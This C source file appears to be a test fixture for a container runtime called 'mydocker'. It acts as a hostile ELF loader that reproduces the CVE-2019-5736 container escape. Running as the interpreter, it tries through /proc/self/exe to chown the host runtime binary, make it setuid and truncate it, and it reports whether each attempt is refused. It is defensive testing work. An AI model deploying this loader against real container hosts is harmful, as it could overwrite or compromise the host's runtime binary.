/* hostile-loader: the dynamic loader of a hostile image (CVE-2019-5736).
 * The test image installs it where mydocker's ELF interpreter is looked
 * for (/lib64/ld-linux-x86-64.so.2 on x86_64), so when a container gets
 * the mydocker binary run inside it (#!/proc/self/exe), the kernel starts
 * this instead of the real loader, with /proc/self/exe leading to the
 * binary being loaded. It tries what an attacker would, and says how each
 * try went; it never writes data into the binary, it only truncates.
 *
 * No libc: it runs as another program's interpreter, before anything is
 * set up, so it makes its own system calls. */
#include <fcntl.h>
#include <sys/syscall.h>

static long sys5(long n, long a, long b, long c, long d, long e)
{
	long ret;
#if defined(__x86_64__)
	register long r10 __asm__("r10") = d, r8 __asm__("r8") = e;
	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
		      x2 __asm__("x2") = c, x3 __asm__("x3") = d, x4 __asm__("x4") = e;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4) : "memory");
	ret = x0;
#else
#error "hostile-loader: x86_64 and aarch64 only"
#endif
	return ret;
}

static long sys3(long n, long a, long b, long c)
{
	return sys5(n, a, b, c, 0, 0);
}

/* Writes a string literal; its length is known when compiled. */
#define SAY(literal) sys3(SYS_write, 1, (long)(literal), sizeof(literal) - 1)

/* "hostile-loader: chmod 4755: refused" or "...: done" */
#define REPORT(what, ret) \
	do { \
		SAY("hostile-loader: " what); \
		if ((ret) < 0) \
			SAY(": refused\n"); \
		else \
			SAY(": done\n"); \
	} while (0)

static const char self[] = "/proc/self/exe";

void _start(void)
{
	long fd;

	SAY("hostile-loader: ran as the loader of /proc/self/exe\n");
	REPORT("chown 65534", sys5(SYS_fchownat, AT_FDCWD, (long)self, 65534, 65534, 0));
	REPORT("chmod 4755", sys3(SYS_fchmodat, AT_FDCWD, (long)self, 04755));
	fd = sys3(SYS_openat, AT_FDCWD, (long)self, O_WRONLY | O_TRUNC);
	REPORT("truncate", fd);
	sys3(SYS_exit_group, 0, 0, 0);
}
